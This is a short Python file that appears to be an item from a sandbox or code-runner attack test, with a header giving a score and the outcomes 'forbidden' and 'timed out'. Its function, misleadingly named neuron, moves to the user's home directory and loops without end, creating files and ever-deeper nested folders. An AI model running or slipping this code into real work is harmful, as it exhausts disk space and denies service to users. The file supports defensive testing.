# /// attack
# lines = [24]
# tries = "Makes a million empty files and folders, one inside another."
# score = 18
# outcomes = { "1.2" = ["forbidden", "timed out"] }
# ///
import os


def neuron(x, w, b, f):
    os.chdir(os.environ["HOME"])
    number = 0
    while True:
        number += 1
        open(f"{number}", "w").close()
        if number % 100 == 0:
            os.mkdir(f"folder-{number}")
            os.chdir(f"folder-{number}")
